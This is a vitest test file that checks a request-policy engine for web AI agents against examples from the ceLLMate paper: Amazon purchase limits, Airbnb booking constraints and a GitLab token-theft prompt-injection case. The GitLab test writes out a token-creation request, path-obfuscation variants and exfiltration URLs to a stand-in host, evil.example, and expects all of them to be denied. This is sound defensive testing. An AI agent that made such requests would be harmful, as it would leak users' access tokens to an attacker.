/** The examples of the ceLLMate paper, its Figures 4 to 10, from their documents through a session. */
import { type OpenSession, openSession, type SendInput } from 'cordon';
import { beforeAll, describe, expect, it } from 'vitest';
import { publishedForge } from './support/sites/published-forge.ts';

const FORM = { 'content-type': 'application/x-www-form-urlencoded' } as const;

async function open(policy: string | object, task?: string): Promise<OpenSession> {
  return openSession({ policy, confirm: () => true, ...(task === undefined ? {} : { task }) });
}

async function said(session: OpenSession, request: SendInput): Promise<string> {
  const { outcome, by, actions } = await session.send(request);
  return [outcome, by, ...actions].join(' ');
}

describe('Figures 4 and 6 to 10: the shopping cart on Amazon', () => {
  let amazon: OpenSession;
  beforeAll(async () => {
    amazon = await open('test/paper/amazon.yaml');
  });
  const checkout = 'https://www.amazon.com/checkout/p/p-106-1/spc';
  const order = (totalAmount: string | readonly string[] | null, page = checkout): SendInput => ({
    method: 'POST',
    url: 'https://www.amazon.com/checkout/p/p-106-1/spc/place-order?ref_=chk',
    page,
    args: { totalAmount: typeof totalAmount === 'string' || totalAmount === null ? totalAmount : [...totalAmount] },
  });

  it('Figure 7: view_shopping_cart lets the cart be read', async () => {
    const view = 'https://www.amazon.com/gp/cart/view.html';
    expect(await said(amazon, { method: 'GET', url: view })).toBe('allow send.sitemap.selected ViewCart');
    expect(await said(amazon, { method: 'GET', url: `${view}?ref_=nav_cart` })).toBe(
      'allow send.sitemap.selected ViewCart',
    );
  });

  it.each([
    ['$49.99', 'allow send.sitemap.selected PlaceOrder'],
    ['$50.00', 'allow send.sitemap.selected PlaceOrder'],
    ['$60.00', 'deny send.condition.false PlaceOrder'],
    ['-$1.00', 'deny send.condition.false PlaceOrder'],
    ['free', 'deny send.argument.mistyped PlaceOrder'],
    [['$1.00', '$60.00'], 'deny send.argument.ambiguous PlaceOrder'],
    [null, 'deny send.argument.missing PlaceOrder'],
  ])('Figure 8: with maxAmount 50 a total of %s is judged by the function', async (total, expected) => {
    expect(await said(amazon, order(total))).toBe(expected);
  });

  it('Figure 6: the total counts only on the pages that its source names', async () => {
    const review = 'https://www.amazon.com/product-reviews/B0';
    expect(await said(amazon, order('$1.00', review))).toBe('deny send.argument.missing PlaceOrder');
  });

  it('tells the agent why, in the words of the policy', async () => {
    const { reason } = await amazon.send(order('$60.00'));
    expect(reason).toContain('Purchase for at most 50 dollars in total');
  });

  it('Figure 4: what was not selected is denied by default, and what is no listed action is not affected', async () => {
    const add = {
      method: 'POST',
      url: 'https://www.amazon.com/cart/add-to-cart/ref=dp_start',
      headers: FORM,
      body: 'asin=TV56',
    };
    expect(await said(amazon, add)).toBe('deny send.sitemap.unselected AddToCart');
    const address = {
      method: 'POST',
      url: 'https://www.amazon.com/a/addresses/add',
      headers: FORM,
      body: 'city=Elsewhere',
    };
    expect(await said(amazon, address)).toBe('deny send.sitemap.denied ChangeAddress');
    expect(await said(amazon, { method: 'GET', url: 'https://www.amazon.com/dp/B0' })).toBe(
      'allow send.unlisted.allowed',
    );
  });

  it('Figure 9: trusted hosts serve their files, and nothing else leaves the domain', async () => {
    expect(await said(amazon, { method: 'GET', url: 'https://m.media-amazon.com/images/I/41.jpg' })).toBe(
      'allow send.external.allowed',
    );
    expect(await said(amazon, { method: 'GET', url: 'https://s.amazon-adsystem.com/x' })).toBe(
      'allow send.external.allowed',
    );
    expect(await said(amazon, { method: 'POST', url: 'https://s.amazon-adsystem.com/x', body: 'secret' })).toMatch(
      /^deny send\.domain\./,
    );
    expect(await said(amazon, { method: 'GET', url: 'https://evil.example/?q=secret' })).toBe(
      'deny send.domain.outside',
    );
  });

  it('an under-specified task is rejected before anything is granted (section 4.2)', async () => {
    await expect(open({ cordon: 1 }, 'Purchase a coffee maker')).rejects.toMatchObject({ kind: 'denied' });
  });
});

describe('section 4.2: from the sentence to the requests', () => {
  const place = (totalAmount: string): SendInput => ({
    method: 'POST',
    url: 'https://www.amazon.com/checkout/p/p-106-1/spc/place-order',
    page: 'https://www.amazon.com/checkout/p/p-106-1/spc',
    args: { totalAmount },
  });
  const view: SendInput = { method: 'GET', url: 'https://www.amazon.com/gp/cart/view.html' };
  const selected = (session: OpenSession) =>
    session.grant.sites.map(({ domain, selected: chosen }) => [
      domain,
      chosen.map(({ policy, params }) => [policy.name, params]),
    ]);

  it('“view my current shopping cart” needs that policy and no other', async () => {
    const session = await open('test/paper/amazon-task.yaml', 'view my current shopping cart on Amazon');
    expect(selected(session)).toEqual([['amazon.com', [['view_shopping_cart', {}]]]]);
    expect(session.grant.scope.goal).toBe('read');
    expect(await said(session, view)).toBe('allow send.sitemap.selected ViewCart');
    expect(await said(session, place('$1.00'))).toBe('deny send.sitemap.unselected PlaceOrder');
  });

  it('“… and checkout if the total is under 50 dollars” needs both, with {"maxAmount": 50}', async () => {
    const task = 'view my current shopping cart on Amazon and checkout if the total is under 50 dollars';
    const session = await open('test/paper/amazon-task.yaml', task);
    expect(selected(session)).toEqual([
      [
        'amazon.com',
        [
          ['view_shopping_cart', {}],
          ['purchase_amount_leq', { maxAmount: 50 }],
        ],
      ],
    ]);
    expect(session.grant.scope.goal).toBe('interact');
    expect(await said(session, view)).toBe('allow send.sitemap.selected ViewCart');
    expect(await said(session, place('$49.99'))).toBe('allow send.sitemap.selected PlaceOrder');
    expect(await said(session, place('$60.00'))).toBe('deny send.condition.false PlaceOrder');
    expect(await said(session, { method: 'GET', url: 'https://m.media-amazon.com/a.jpg' })).toBe(
      'allow send.external.allowed',
    );
  });

  it('in the box a person lowers the amount, and switches the purchase off', async () => {
    const policy = 'test/paper/amazon-task.yaml';
    const task = 'view my current shopping cart on Amazon and checkout if the total is under 50 dollars';
    const with20 = await openSession({
      policy,
      task,
      confirm: (_, { sites }) => ({
        confirm: true,
        policies: sites
          .flatMap(({ policies }) => policies.filter(({ on }) => on))
          .map(({ id, fields }) => ({ id, params: Object.fromEntries(fields.map(({ name }) => [name, '20'])) })),
      }),
    });
    expect(await said(with20, place('$19.99'))).toBe('allow send.sitemap.selected PlaceOrder');
    expect(await said(with20, place('$49.99'))).toBe('deny send.condition.false PlaceOrder');
    const without = await openSession({ policy, task, confirm: () => ({ confirm: true, policies: [] }) });
    expect(await said(without, place('$1.00'))).toBe('deny send.sitemap.unselected PlaceOrder');
  });

  it('a reservation has the days and guests of the sentence', async () => {
    const task = 'book a 2B2B in San Francisco on Airbnb from May 17 to May 22, 2027 for 2 guests';
    const session = await open('test/paper/airbnb-task.yaml', task);
    expect(selected(session)).toEqual([
      [
        'airbnb.com',
        [['make_reservation', { checkin_date: '2027-05-17', checkout_date: '2027-05-22', num_guests: 2 }]],
      ],
    ]);
  });
});

describe('section 7.3: a purchase once', () => {
  it('two carts of 49 dollars are one too many', async () => {
    const session = await open('test/paper/amazon-once.yaml');
    const place: SendInput = {
      method: 'POST',
      url: 'https://www.amazon.com/checkout/p/p-106-1/spc/place-order',
      page: 'https://www.amazon.com/checkout/p/p-106-1/spc',
      args: { totalAmount: '$49.00' },
    };
    const first = await session.send(place);
    expect(first.outcome).toBe('allow');
    expect(await said(session, place)).toBe('deny send.limit.count PlaceOrder');
  });
});

describe('Figure 5: the token attack on GitLab', () => {
  const policy = {
    cordon: 1,
    scope: { goal: 'interact', domains: ['gitlab.com'] },
    sites: {
      'gitlab.com': {
        sitemap: JSON.parse(publishedForge()),
        // As published: mutations are known by their names alone.
        graphql: { createWorkItemNote: ['createNote'] },
        policies: [
          {
            name: 'comment_issue',
            effect: 'allow',
            actions: ['Comment on issue', 'See issue'],
            description: 'Comment on issues',
          },
        ],
        select: ['comment_issue'],
      },
    },
  };
  const api = 'https://gitlab.com/api/graphql';
  const note = (name: string, field: string): SendInput => ({
    method: 'POST',
    url: api,
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      operationName: name,
      query: `mutation ${name}($input: Input!) { ${field}(input: $input) { errors } }`,
      variables: { input: { body: 'Thanks' } },
    }),
  });

  it('the issue is read and commented on; no token is made and nothing reaches the attacker', async () => {
    const session = await open(policy, 'Comment on issue 30 of johannr-dev/agent on gitlab.com');
    const issue = 'https://gitlab.com/johannr-dev/agent/-/issues/30';
    expect(await said(session, { method: 'GET', url: issue })).toBe('allow send.sitemap.selected See issue');
    expect(await said(session, note('createWorkItemNote', 'createNote'))).toBe(
      'allow send.sitemap.selected Comment on issue',
    );
    const tokens = 'https://gitlab.com/-/user_settings/personal_access_tokens';
    const body = 'personal_access_token[name]=x&personal_access_token[scopes][]=api';
    const token = 'deny send.sitemap.unselected Make access token';
    for (const url of [
      tokens,
      `${tokens}/`,
      `${tokens}.json`,
      `${tokens}?x=1`,
      tokens.replace('/-/', '//-/'),
      tokens.replace('-', '%2D'),
    ]) {
      expect([url, await said(session, { method: 'POST', url, headers: FORM, body })]).toEqual([url, token]);
    }
    expect(await said(session, note('createWorkItemNote', 'workItemDelete'))).toMatch(/^deny /);
    for (const url of ['https://evil.example/collect?token=glpat-x', 'wss://evil.example/collect']) {
      expect(await said(session, { method: 'GET', url })).toBe('deny send.domain.outside');
    }
  });
});

describe('section 3.4: the reservation on Airbnb', () => {
  const reserve = (checkin: string, checkout: string, guests: string): SendInput => ({
    method: 'POST',
    url: 'https://www.airbnb.com/book/stays/742',
    headers: FORM,
    body: new URLSearchParams({ checkin, checkout, guests }).toString(),
  });

  it.each([
    ['2026-05-17', '2026-05-22', '2', 'allow send.sitemap.selected MakeReservation'],
    ['2026-05-18', '2026-05-22', '2', 'deny send.condition.false MakeReservation'],
    ['2026-05-17', '2026-05-29', '2', 'deny send.condition.false MakeReservation'],
    ['2026-05-17', '2026-05-22', '3', 'deny send.condition.false MakeReservation'],
    ['2026-05-17', '2026-05-22', '2 guests', 'deny send.argument.mistyped MakeReservation'],
  ])('from %s to %s for %s: only what the user asked for', async (checkin, checkout, guests, expected) => {
    const session = await open('test/paper/airbnb.yaml');
    expect(await said(session, reserve(checkin, checkout, guests))).toBe(expected);
  });

  it('the host is not written to', async () => {
    const session = await open('test/paper/airbnb.yaml');
    const message = {
      method: 'POST',
      url: 'https://www.airbnb.com/contact_host/742/send',
      headers: FORM,
      body: 'text=hi',
    };
    expect(await said(session, message)).toBe('deny send.sitemap.unselected MessageHost');
  });
});
